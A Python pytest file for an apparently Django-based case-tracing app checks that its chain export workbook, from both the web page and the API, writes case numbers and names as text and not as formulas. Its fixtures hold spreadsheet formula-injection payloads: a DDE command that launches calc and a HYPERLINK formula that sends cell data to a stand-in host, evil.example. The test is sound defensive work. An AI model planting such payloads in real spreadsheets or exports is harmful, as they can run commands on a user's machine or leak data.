"""The chain export writes case numbers and names as text, never as formulas (issue 11:
the probe's ``=cmd|' /C calc'!A0`` in the chain export)."""

from __future__ import annotations

import pytest
from django.test import Client

from fangkong.core.roles import Role
from fangkong.tracing.models import Case
from tests.conftest import GRID_A1, VILLAGE_A
from tests.core.test_exports import assert_neutral
from tests.people.conftest import ApiClient

CALC = "=cmd|' /C calc'!A0"
LINK = '=HYPERLINK("http://evil.example/?"&A1,"点我")'


@pytest.fixture
def investigator(make_user):
    Case.objects.create(region_code=GRID_A1, status="confirmed", external_id=CALC[:40], name=LINK)
    return make_user(Role.INVESTIGATOR, VILLAGE_A)


def test_the_chain_export_page(investigator):
    client = Client()
    client.force_login(investigator)
    workbook = client.get("/tracing/chains.xlsx")
    assert workbook.status_code == 200
    assert_neutral(workbook.content, [CALC[:40], LINK])


def test_the_chain_export_api(investigator):
    workbook = ApiClient(investigator).client.get("/api/v1/tracing/chains.xlsx")
    assert workbook.status_code == 200, workbook.content
    assert_neutral(workbook.content, [CALC[:40], LINK])
